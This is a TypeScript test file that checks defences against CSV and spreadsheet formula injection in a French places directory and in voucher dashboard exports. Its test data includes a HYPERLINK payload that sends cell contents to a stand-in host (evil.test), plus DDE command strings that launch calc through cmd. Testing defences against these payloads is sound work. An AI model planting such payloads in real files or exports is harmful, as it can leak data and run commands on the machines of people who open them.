/**
 * Issue 11, finding 12: formula injection in CSV files. A place description
 * `=HYPERLINK(…)` came out live in /api/v1/places.csv, the Pass dashboard and the
 * statements' CSV. Such values are refused at input (imports, the managers' form) and
 * neutralised in every CSV meant for spreadsheets (docs/decisions/0005-csv-formulas.md).
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestDatabase } from '../db.ts';
import { setDatabase, type Database } from '../../src/lib/server/db/client.ts';
import { importPlaces, parseStandardRecord, parseStandardCsv } from '../../src/lib/server/places/index.ts';
import { dashboardCsv, statementCsv } from '../../src/lib/server/pass/index.ts';
import { neutraliseFormula, spreadsheetCell } from '../../src/lib/server/web/spreadsheet.ts';
import { GET as placesCsv } from '../../src/routes/api/v1/places.csv/+server.ts';

const PAYLOAD = '=HYPERLINK("https://evil.test/?d="&A1;"Cliquez")';
const base = {
	pivot: '21470001500016',
	commune: 'Agen',
	code_postal: '47000',
	code_insee: '47001',
	adresse: 'Place Armand Fallières',
	latitude: 44.204,
	longitude: 0.619,
	services: 'Aide aux démarches administratives',
	date_maj: '2024-03-12'
};
let db: Database;

beforeAll(async () => {
	db = await createTestDatabase();
	setDatabase(db);
});
afterAll(async () => {
	setDatabase(undefined);
	await db?.close();
});

/** Cells a spreadsheet would run as a formula that calls something (a phone "+33…" is a number, "- a list" text). */
const liveCells = (rows: Record<string, string>[]) =>
	rows.flatMap((r) =>
		Object.entries(r)
			.filter(([k, v]) => k !== 'telephone' && (/^\s*=/.test(v) || (/^\s*[+\-@]\S/.test(v) && /[(|!]/.test(v))))
			.map(([k, v]) => `${k}=${v}`)
	);

describe('issue 11, finding 12: formulas in CSV files', () => {
	it('an import refuses a formula in a name or an address and drops it from a description; the national CSV has no live cell', async () => {
		const records = [
			{
				...base,
				id: 'formule-description',
				nom: 'Médiathèque Lacépède',
				presentation_resume: PAYLOAD,
				presentation_detail: '@SUM(1+1)*cmd|" /C calc"!A0',
				complement_adresse: '+cmd|" /C calc"!A0',
				structure_parente: '-2+3+cmd|" /C calc"!A0',
				autres_formations_labels: 'PIX|=1+1'
			},
			{ ...base, id: 'formule-nom', nom: PAYLOAD },
			{ ...base, id: 'formule-adresse', nom: 'Espace numérique', adresse: '@SUM(A1)' },
			{ ...base, id: '=formule-id', nom: 'Espace numérique 2' },
			{ ...base, id: 'nom-arobase', nom: '@tout Clic - Club Informatique Cadillacais', adresse: '- Avenue Paul Mairat' },
			{ ...base, id: 'liste-legitime', nom: 'Tiers-lieu', presentation_resume: '- ateliers\n- permanences', presentation_detail: '+ de 20 ateliers par mois' }
		];
		const report = await importPlaces(db, { fileName: 'lieux.json', content: JSON.stringify(records), today: '2026-11-18' });
		expect(JSON.stringify(report.rejections)).toMatch(/nom\s: .*formule/);
		expect(report.rejected).toBe(3);
		expect(report.created).toBe(3);
		const warnings = JSON.stringify(report.warnings);
		for (const f of ['presentation_resume', 'presentation_detail', 'complement_adresse', 'structure_parente', 'autres_formations_labels'])
			expect(warnings).toContain(`${f}\u00a0: `);

		const res = await placesCsv({
			url: new URL('http://localhost/api/v1/places.csv?departement=47'),
			params: {},
			request: new Request('http://localhost/api/v1/places.csv')
		} as never);
		const { rows } = parseStandardCsv(await res.text());
		expect(rows.length).toBeGreaterThan(1);
		expect(liveCells(rows as Record<string, string>[])).toEqual([]);
		const legit = (rows as Record<string, string>[]).find((r) => r.id === 'liste-legitime')!;
		expect(legit.presentation_resume).toBe('- ateliers\n- permanences');
		expect(legit.presentation_detail).toBe('+ de 20 ateliers par mois');
	});

	it('the managers’ form gets a field error for a formula in the description', () => {
		const r = parseStandardRecord({ ...base, id: 'x', nom: 'Lieu', presentation_resume: PAYLOAD } as never, { today: '2026-11-18' });
		expect(r.ok && r.place.presentationResume).toBe(null);
		expect(r.ok && r.warnings.join(' ')).toMatch(/presentation_resume\s: .*formule de tableur.*\s; valeur ignorée/);
	});

	it('the Pass dashboard and statement CSVs neutralise formulas (leading apostrophe), numbers stay numbers', () => {
		const row = (label: string) => ({ label, issued: 10, distributed: 5, redeemed: 2, reimbursed: 1, expired: 0, redeemedCents: 4000 });
		const dash = dashboardCsv({
			byCampaign: [row(PAYLOAD)],
			byArea: [row('@SUM(A1)')],
			byPlace: [row('+cmd|" /C calc"!A0'), row('-2+3'), row('Lieu normal')]
		} as never);
		const cells = dash.split('\r\n').flatMap((l) => l.split(';'));
		expect(cells.filter((c) => /^"?[=+\-@]/.test(c))).toEqual([]);
		expect(dash).toContain(`"'=HYPERLINK(""https://evil.test/?d=""&A1;""Cliquez"")"`);
		expect(dash).toContain(";'@SUM(A1);");
		expect(dash).toContain(';-2+3;'.replace('-2+3', "'-2+3"));
		expect(dash).toContain(';40,00');

		const st = statementCsv({
			statement: { id: 'r1', monthLabel: 'novembre 2026', place: PAYLOAD, organisation: '@Org', siret: null, totalCents: -1250 },
			vouchers: [{ code: 'ABCDEFGHJKMNPQ', campaign: '=1+1', redeemedAt: null, accompanimentDate: null, faceValueCents: 2000 }]
		} as never);
		expect(
			st
				.split('\r\n')
				.flatMap((l) => l.split(';'))
				.filter((c) => /^"?[=+@]/.test(c))
		).toEqual([]);
		expect(st).toContain(';-12,50');
		expect(neutraliseFormula('-12,50')).toBe('-12,50');
		expect(neutraliseFormula('\tx')).toBe("'\tx");
		expect(spreadsheetCell('a;b')).toBe('"a;b"');
	});
});
